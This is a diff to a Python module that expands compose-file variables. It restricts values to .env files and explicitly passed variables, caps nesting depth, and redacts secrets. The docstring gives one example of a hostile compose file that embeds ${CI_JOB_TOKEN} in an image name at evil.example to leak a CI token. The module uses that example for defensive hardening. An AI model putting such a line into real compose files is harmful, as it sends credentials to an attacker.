@@ -2,9 +2,17 @@
 
 :func:`interpolate` implements the compose-spec variable syntax (``$VAR``, ``${VAR}``,
 ``${VAR:-default}``, ``${VAR-default}``, ``${VAR:?error}``, ``${VAR?error}``, ``${VAR:+alt}``,
-``${VAR+alt}``, nesting, and ``$$`` for a literal ``$``); values come from the environment, which
-wins over a ``.env`` file next to the compose file (:func:`read_dotenv`). :func:`services` lists
-each service's image, build context and Dockerfile, and published ports, with line numbers.
+``${VAR+alt}``, nesting up to :data:`MAX_NESTING` levels, and ``$$`` for a literal ``$``).
+
+Values come from the ``.env`` file next to the compose file (:func:`read_dotenv`), the defaults
+written in the file, and what the user passes explicitly (:func:`user_variables`:
+``--env-file PATH``, ``--env NAME``), which wins over ``.env``. Never from the whole process
+environment: a hostile compose file could otherwise write ``image: ${CI_JOB_TOKEN}.evil.example``
+and send the token to its own registry. Values taken from the environment with ``--env NAME``
+are replaced by ``***`` in every output (:func:`redact`).
+
+:func:`services` lists each service's image, build context and Dockerfile, and published ports,
+with line numbers.
 """
 
 from __future__ import annotations
@@ -21,11 +29,19 @@ from hullguard.inventory.yamlsafe import line_of, list_at, read_text
 
 _NAME_RE = re.compile(r"[A-Za-z_][A-Za-z0-9_]*")
 _COMPOSE_NAMES = re.compile(r"^(docker-)?compose([.-].*)?\.ya?ml$")
+MAX_NESTING = 16  # ${A:-${B:-...}} levels; compose files in the wild use two or three
+ENV_NAMES_VARIABLE = "HULLGUARD_COMPOSE_ENV"  # set by --env NAME (comma-separated names)
+ENV_FILES_VARIABLE = "HULLGUARD_COMPOSE_ENV_FILE"  # set by --env-file (os.pathsep-separated)
+MIN_REDACTED = 4  # shorter values are not secrets, and hiding them would garble the output
+_from_environment: set[str] = set()
 
 
-def interpolate(text: str, env: Mapping[str, str], where: str = "") -> str:
+def interpolate(text: str, env: Mapping[str, str], where: str = "", depth: int = 0) -> str:
     """Expand compose variables in ``text``; InputError on a malformed or required-but-unset
-    variable (the message is compose's own wording)."""
+    variable (the message is compose's own wording) or nesting deeper than MAX_NESTING."""
+    if depth > MAX_NESTING:
+        raise InputError(f"variable interpolation nested more than {MAX_NESTING} levels deep",
+                         where=where, hint="a hostile or generated compose file?")
     out, pos = [], 0
     while pos < len(text):
         dollar = text.find("$", pos)
@@ -33,12 +49,13 @@ def interpolate(text: str, env: Mapping[str, str], where: str = "") -> str:
             out.append(text[pos:])
             break
         out.append(text[pos:dollar])
-        value, pos = _variable(text, dollar, env, where)
+        value, pos = _variable(text, dollar, env, where, depth)
         out.append(value)
     return "".join(out)
 
 
-def _variable(text: str, start: int, env: Mapping[str, str], where: str) -> tuple[str, int]:
+def _variable(text: str, start: int, env: Mapping[str, str], where: str,
+              depth: int) -> tuple[str, int]:
     """Expand the ``$...`` at ``start``; return its value and the position after it."""
     nxt = text[start + 1: start + 2]
     if nxt == "$":
@@ -49,7 +66,7 @@ def _variable(text: str, start: int, env: Mapping[str, str], where: str) -> tupl
             return "$", start + 1  # a lone $ (compose keeps it)
         return env.get(match.group(0), ""), match.end()
     end = _closing_brace(text, start + 2, where)
-    return _braced(text[start + 2: end], env, where), end + 1
+    return _braced(text[start + 2: end], env, where, depth + 1), end + 1
 
 
 def _closing_brace(text: str, pos: int, where: str) -> int:
@@ -66,7 +83,7 @@ def _closing_brace(text: str, pos: int, where: str) -> int:
     raise InputError(f"invalid interpolation format for {text!r}: unclosed '${{'", where=where)
 
 
-def _braced(body: str, env: Mapping[str, str], where: str) -> str:
+def _braced(body: str, env: Mapping[str, str], where: str, depth: int) -> str:
     match = _NAME_RE.match(body)
     if not match:
         raise InputError(f"invalid interpolation format: ${{{body}}}", where=where,
@@ -81,13 +98,52 @@ def _braced(body: str, env: Mapping[str, str], where: str) -> str:
     word = rest[len(op):]
     present = bool(value) if op.startswith(":") else value is not None
     if op.endswith("-"):
-        return value or "" if present else interpolate(word, env, where)
+        return value or "" if present else interpolate(word, env, where, depth)
     if op.endswith("+"):
-        return interpolate(word, env, where) if present else ""
+        return interpolate(word, env, where, depth) if present else ""
     if not present:
-        message = interpolate(word, env, where) or "required variable is missing"
+        message = interpolate(word, env, where, depth) or "required variable is missing"
         raise InputError(f"required variable {name} is missing a value: {message}", where=where)
     return value or ""
+
+
+def pass_variables(names: list[str] | None = None, files: list[Path] | None = None) -> None:
+    """What ``--env NAME`` and ``--env-file PATH`` ask for, recorded in this process's
+    environment so that fleet workers (child processes) see the same choice."""
+    for name in names or []:
+        if not _NAME_RE.fullmatch(name):
+            raise InputError(f"{name!r} is not a variable name (give NAME; its value comes "
+                             "from the environment)", where="--env")
+    _extend(ENV_NAMES_VARIABLE, ",", names or [])
+    _extend(ENV_FILES_VARIABLE, os.pathsep, [str(Path(f).resolve()) for f in files or []])
+
+
+def _extend(variable: str, separator: str, items: list[str]) -> None:
+    if items:
+        current = [p for p in os.environ.get(variable, "").split(separator) if p]
+        os.environ[variable] = separator.join([*current, *items])
+
+
+def user_variables(environ: Mapping[str, str] | None = None) -> dict[str, str]:
+    """The variables the user passed: ``--env-file`` files in order, then ``--env NAME``
+    values from the environment (remembered for :func:`redact`)."""
+    environ = os.environ if environ is None else environ
+    values: dict[str, str] = {}
+    for file in (f for f in environ.get(ENV_FILES_VARIABLE, "").split(os.pathsep) if f):
+        values.update(read_dotenv(Path(file))[0])
+    for name in (n for n in environ.get(ENV_NAMES_VARIABLE, "").split(",") if n):
+        if name in environ:
+            values[name] = environ[name]
+            if len(environ[name]) >= MIN_REDACTED:
+                _from_environment.add(environ[name])
+    return values
+
+
+def redact(text: str) -> str:
+    """``text`` with every value taken from the environment (``--env NAME``) as ``***``."""
+    for value in sorted(_from_environment, key=len, reverse=True):
+        text = text.replace(value, "***")
+    return text
 
 
 def read_dotenv(path: Path) -> tuple[dict[str, str], list[tuple[int, str]]]:
